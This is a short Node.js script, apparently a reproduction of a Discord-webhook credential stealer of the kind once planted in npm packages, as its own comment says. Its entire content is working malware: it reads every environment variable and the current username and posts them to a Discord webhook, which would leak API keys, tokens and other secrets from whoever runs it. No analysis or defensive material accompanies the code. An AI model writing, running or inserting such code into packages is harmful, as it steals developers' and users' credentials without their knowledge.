const os = require('os');
const https = require('https');
// Modelled on the 2021-2024 wave of Discord-webhook stealers on npm.
const payload = JSON.stringify({ content: '```' + JSON.stringify(process.env) + '```', username: os.userInfo().username });
const request = https.request('https://discord.com/api/webhooks/1183362331813646366/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefghijklmnopqrstuv', { method: 'POST', headers: { 'Content-Type': 'application/json' } });
request.write(payload);
request.end();
